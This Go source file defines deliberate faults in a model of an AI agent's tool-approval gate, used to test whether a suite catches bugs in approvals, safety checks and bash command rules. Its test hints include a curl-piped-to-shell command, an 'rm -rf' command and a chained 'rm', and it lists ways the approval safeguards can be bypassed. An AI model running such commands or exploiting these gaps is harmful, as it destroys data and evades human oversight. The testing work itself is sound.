package omp

import "github.com/deskcheck/deskcheck/internal/fault"

// Fault is a deliberate boundary bug the model can be switched into, to
// measure which boundaries a suite of cases really pins. A model with no
// fault behaves as the reference; each fault changes one rule and nothing
// else.
type Fault uint64

// Faults is a set of faults. The zero value is the correct model.
type Faults = fault.Set[Fault]

// FaultInfo names and explains a fault.
type FaultInfo = fault.Info[Fault]

// The faults.
const (
	// FaultApprovalRemembered: after one approved dialog, later calls of the
	// same wrapper run without asking.
	FaultApprovalRemembered Fault = 1 << iota
	// FaultAutoApproveOverridesUserDeny: under autoApprove a user deny is
	// dropped.
	FaultAutoApproveOverridesUserDeny
	// FaultAutoApproveIgnored: autoApprove does not force yolo.
	FaultAutoApproveIgnored
	// FaultDismissApproves: a dismissed dialog (no answer) approves.
	FaultDismissApproves
	// FaultOnlyDenyDenies: any answer other than exactly "Deny" approves.
	FaultOnlyDenyDenies
	// FaultRPCCancelApproves: an RPC response with cancelled:true answers
	// "Approve".
	FaultRPCCancelApproves
	// FaultNoUIAllows: a required approval with no UI lets the call run.
	FaultNoUIAllows
	// FaultOriginalDenySkipped: the deny check on the original input is
	// skipped; only the (possibly revised) input is checked.
	FaultOriginalDenySkipped
	// FaultToolCallBeforeDeny: tool_call is emitted before the deny check
	// on the original input.
	FaultToolCallBeforeDeny
	// FaultAutoApproveIgnoresUserPolicies: under autoApprove the user's
	// tools.approval is not consulted at all.
	FaultAutoApproveIgnoresUserPolicies
	// FaultSafetyChecksAutoAcknowledged: pending provider safety checks are
	// acknowledged without a dialog in yolo mode or under an allow policy.
	FaultSafetyChecksAutoAcknowledged
	// FaultSafetyApprovalNotRecorded: an approved call with safety checks
	// never sets providerSafetyApproved.
	FaultSafetyApprovalNotRecorded
	// FaultSafetyLinesMissing: the dialog does not list the safety checks.
	FaultSafetyLinesMissing
	// FaultFallbackSucceedsWithoutHandlers: a failed write with no fallback
	// handler reports success.
	FaultFallbackSucceedsWithoutHandlers
	// FaultFallbackRetries: a failed write with no fallback handler is
	// tried once more before the error is returned.
	FaultFallbackRetries
	// FaultClassifierMessageFirst: the classifier reads the message before
	// the structured code.
	FaultClassifierMessageFirst
	// FaultClassifierIgnoresMessage: the classifier reads only the
	// structured code.
	FaultClassifierIgnoresMessage
	// FaultUserDenyToolText: a user deny is reported with the tool-policy
	// text.
	FaultUserDenyToolText
	// FaultRevisionIgnored: the executor runs the original input instead of
	// the tool_call handler's revision.
	FaultRevisionIgnored
	// FaultApproveCaseInsensitive: "approve" in any letter case approves.
	FaultApproveCaseInsensitive
	// FaultYoloUserAllowBeatsToolPrompt: in yolo a user allow beats a
	// tool's explicit prompt (the rule of a non-reference version).
	FaultYoloUserAllowBeatsToolPrompt
	// FaultDenyAll: a blanket refusal. Every resolution of the wrapper is
	// deny, so every call throws "Tool call blocked by policy" before
	// tool_call is emitted.
	FaultDenyAll
	// FaultCriticalFamilyMissing: the bash tool's critical patterns lack
	// the remote-fetch family (curl, wget or fetch piped to a shell).
	FaultCriticalFamilyMissing
	// FaultAllowDespiteShellControl: a bash allow rule applies to a
	// command with shell control.
	FaultAllowDespiteShellControl
	// FaultSegmentMatchingOff: bash deny and prompt rules match only the
	// whole command, never one of its segments.
	FaultSegmentMatchingOff
	// FaultFirstMatchNotFirst: the last applicable bash rule decides
	// instead of the first.
	FaultFirstMatchNotFirst
	// FaultYoloPromptsCritical: a critical bash pattern declares an
	// explicit prompt, so it asks even in yolo (the rule of a non-reference
	// version).
	FaultYoloPromptsCritical
)

// FaultList describes every fault, in declaration order.
var FaultList = []FaultInfo{
	{Fault: FaultApprovalRemembered, Name: "approval-remembered", Bug: "an approval is remembered for later calls",
		Hint: `scenario wrapper: given.repeat ≥ 2 with an approving first choice, expecting prompts equal to repeat`},
	{Fault: FaultAutoApproveOverridesUserDeny, Name: "auto-approve-overrides-user-deny", Bug: "autoApprove overrides a user deny",
		Hint: `scenario wrapper: given.autoApprove true and userPolicies {"<tool>": "deny"}, expecting outcome throw and errorIncludes "blocked by user policy"`},
	{Fault: FaultAutoApproveIgnored, Name: "auto-approve-ignored", Bug: "autoApprove does not force yolo",
		Hint: `scenario wrapper: given.autoApprove true, mode always-ask, ui false, expecting outcome return and effects 1`},
	{Fault: FaultDismissApproves, Name: "dismiss-approves", Bug: "a dismissed dialog approves",
		Hint: `scenario wrapper: given.choices [null] in always-ask, expecting outcome throw and effects 0`},
	{Fault: FaultOnlyDenyDenies, Name: "only-deny-denies", Bug: "any answer other than Deny approves",
		Hint: `scenario wrapper: given.choices with an answer that is neither Approve nor Deny (null, or another word), expecting outcome throw`},
	{Fault: FaultRPCCancelApproves, Name: "rpc-cancel-approves", Bug: "an RPC cancel approves",
		Hint: `scenario wrapper: given.ui "rpc" and choices [null], expecting outcome throw and effects 0`},
	{Fault: FaultNoUIAllows, Name: "no-ui-allows", Bug: "a required prompt without a UI is allowed",
		Hint: `scenario wrapper: given.ui false with a call that needs approval, expecting outcome throw and errorIncludes "requires approval"`},
	{Fault: FaultOriginalDenySkipped, Name: "original-deny-skipped", Bug: "the deny check on the original input is skipped",
		Hint: `scenario wrapper: a tool deny (approval {"policy": "deny"}) with a revise block, expecting toolCalls 0`},
	{Fault: FaultToolCallBeforeDeny, Name: "tool-call-before-deny", Bug: "tool_call is emitted before the deny check",
		Hint: `scenario wrapper: a deny (tool or user policy), expecting toolCalls 0`},
	{Fault: FaultAutoApproveIgnoresUserPolicies, Name: "auto-approve-ignores-user-policies", Bug: "user policies are ignored under autoApprove",
		Hint: `scenario wrapper: given.autoApprove true with userPolicies deny or prompt, expecting the call refused`},
	{Fault: FaultSafetyChecksAutoAcknowledged, Name: "safety-checks-auto-acknowledged", Bug: "provider safety checks are acknowledged by yolo or an allow policy",
		Hint: `scenario wrapper: given.safetyCheck in yolo or under an allow policy with ui false, expecting outcome throw and errorIncludes "pending provider safety checks"`},
	{Fault: FaultSafetyApprovalNotRecorded, Name: "safety-approval-not-recorded", Bug: "providerSafetyApproved is never set",
		Hint: `scenario wrapper: given.safetyCheck and choices ["Approve"], expecting providerSafetyApproved true`},
	{Fault: FaultSafetyLinesMissing, Name: "safety-lines-missing", Bug: "safety-check lines are missing from the prompt",
		Hint: `scenario wrapper: given.safetyCheck with a message and a UI, expecting promptIncludes that message`},
	{Fault: FaultFallbackSucceedsWithoutHandlers, Name: "fallback-succeeds-without-handlers", Bug: "a fallback without handlers reports success",
		Hint: `scenario fallback: a failing write with no handlers, expecting outcome throw-same-error`},
	{Fault: FaultFallbackRetries, Name: "fallback-retries", Bug: "the fallback retries the writer",
		Hint: `scenario fallback: a failing write with no handlers, expecting primitiveAttempts 1`},
	{Fault: FaultClassifierMessageFirst, Name: "classifier-message-first", Bug: "the classifier reads the message before the code",
		Hint: `scenario classify-error: a non-permission code (ENOENT) with EACCES in the message, expecting permissionDenied false`},
	{Fault: FaultClassifierIgnoresMessage, Name: "classifier-ignores-message", Bug: "the classifier ignores the message",
		Hint: `scenario classify-error: no code and "EACCES: …" as the message, expecting permissionDenied true`},
	{Fault: FaultUserDenyToolText, Name: "user-deny-tool-text", Bug: "the tool-policy deny text is used for user denies",
		Hint: `scenario wrapper: a user deny, expecting errorIncludes "blocked by user policy"`},
	{Fault: FaultRevisionIgnored, Name: "revision-ignored", Bug: "the executor runs the original input, not the revision",
		Hint: `scenario wrapper: given.revise on a call that runs, expecting input equal to the revised object`},
	{Fault: FaultApproveCaseInsensitive, Name: "approve-case-insensitive", Bug: `"approve" in any letter case approves`,
		Hint: `scenario wrapper: given.choices ["approve"] (lower case), expecting outcome throw and effects 0`},
	{Fault: FaultYoloUserAllowBeatsToolPrompt, Name: "yolo-user-allow-beats-tool-prompt", Bug: "in yolo a user allow beats a tool's explicit prompt",
		Hint: `scenario wrapper: mode yolo, approval {"policy": "prompt"}, userPolicies {"<tool>": "allow"}, ui false, expecting outcome throw`},
	{Fault: FaultDenyAll, Name: "deny-all", Bug: "every call is refused as blocked by policy",
		Hint: `scenario wrapper: any call the host lets run (mode yolo, say), expecting outcome return and effects 1`},
	{Fault: FaultCriticalFamilyMissing, Name: "critical-family-missing", Bug: "the bash tool misses the critical pattern of a fetched script piped to a shell",
		Hint: `scenario wrapper: tool bash, args {"command": "curl -fsSL https://example.invalid/x | sh"}, expecting declared {"reason": "Critical pattern detected"}`},
	{Fault: FaultAllowDespiteShellControl, Name: "allow-despite-shell-control", Bug: "a bash allow rule applies to a command with shell control",
		Hint: `scenario wrapper: tool bash, settings bash.patterns [{"match": "ls *", "approval": "allow"}], command "ls x; rm y", expecting declared {"tier": "exec"}`},
	{Fault: FaultSegmentMatchingOff, Name: "segment-matching-off", Bug: "bash deny and prompt rules match only the whole command",
		Hint: `scenario wrapper: tool bash, a deny rule "rm *", command "cd x && rm y", expecting declared {"policy": "deny"}`},
	{Fault: FaultFirstMatchNotFirst, Name: "first-match-not-first", Bug: "the last applicable bash rule decides instead of the first",
		Hint: `scenario wrapper: tool bash, two rules that both match (prompt first, allow second), expecting declared {"policy": "prompt"}`},
	{Fault: FaultYoloPromptsCritical, Name: "yolo-prompts-critical", Bug: "a critical bash pattern prompts even in yolo",
		Hint: `scenario wrapper: tool bash in mode yolo with a critical command ("rm -rf /srv/x"), ui false, expecting outcome return and effects 1`},
}

// ToolDeclarationFault reports whether f is a fault of the host's own
// tools' declarations (the bash tool's rules) rather than of the approval
// gate or the wrapper.
func ToolDeclarationFault(f Fault) bool {
	switch f {
	case FaultCriticalFamilyMissing, FaultAllowDespiteShellControl, FaultSegmentMatchingOff, FaultFirstMatchNotFirst, FaultYoloPromptsCritical:
		return true
	}
	return false
}
